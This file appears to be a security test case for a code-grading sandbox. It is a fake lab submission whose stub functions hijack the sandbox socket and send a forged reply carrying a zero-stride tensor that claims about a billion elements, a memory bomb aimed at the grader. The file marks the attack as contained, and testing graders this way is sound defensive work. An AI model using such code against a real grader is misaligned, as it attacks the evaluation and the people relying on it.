"""Attack: a Tensor of 4 bytes of storage that claims 2**30 elements (zero strides).

Comparing it with the expected array would expand it to 4 GiB in the grader. Contained: the
decoder charges a Tensor its logical elements, not its storage.
"""
# verify: contained
# grade: contained

import gc
import json
import socket
import struct

from grader.sandbox.protocol import send_frame


def _socket():
    for obj in gc.get_objects():
        if isinstance(obj, socket.socket) and obj.fileno() >= 0:
            return obj
    raise RuntimeError("no socket")


def _frame(doc, blobs=()):
    text = doc if isinstance(doc, (bytes, str)) else json.dumps(doc)
    raw = text.encode() if isinstance(text, str) else text
    parts = [struct.pack("<I", len(raw)), raw, struct.pack("<I", len(blobs))]
    for blob in blobs:
        parts += [struct.pack("<Q", len(blob)), blob]
    return b"".join(parts)


def _send_next():
    """Send the next bomb, once each, as the reply to the call in progress (the worker's
    own reply follows it, too late); then the functions are plain stubs. A bad reply
    costs the child its life: the count is kept in a file of the scratch folder."""
    with open("bombs-sent", "a+b") as f:
        f.seek(0)
        n = len(f.read())
        f.write(b".")
    bombs = BOMBS()  # each one built only when it is sent
    if n < len(bombs):
        send_frame(_socket(), bombs[n]())


def BOMBS():
    tensor = {"$tensor": 0, "n": 1, "shape": [1 << 15, 1 << 15], "strides": [0, 0], "offset": 0}
    return [lambda: _frame({"ok": True, "value": tensor, "args": [tensor, tensor]}, [b"\0\0\x80?"])]


def attention_scores(q, k, scale):
    _send_next()
    raise NotImplementedError("lab04: implement attention_scores")


def apply_mask(scores, mask):
    _send_next()
    raise NotImplementedError("lab04: implement apply_mask")


def softmax(x):
    _send_next()
    raise NotImplementedError("lab04: implement softmax")
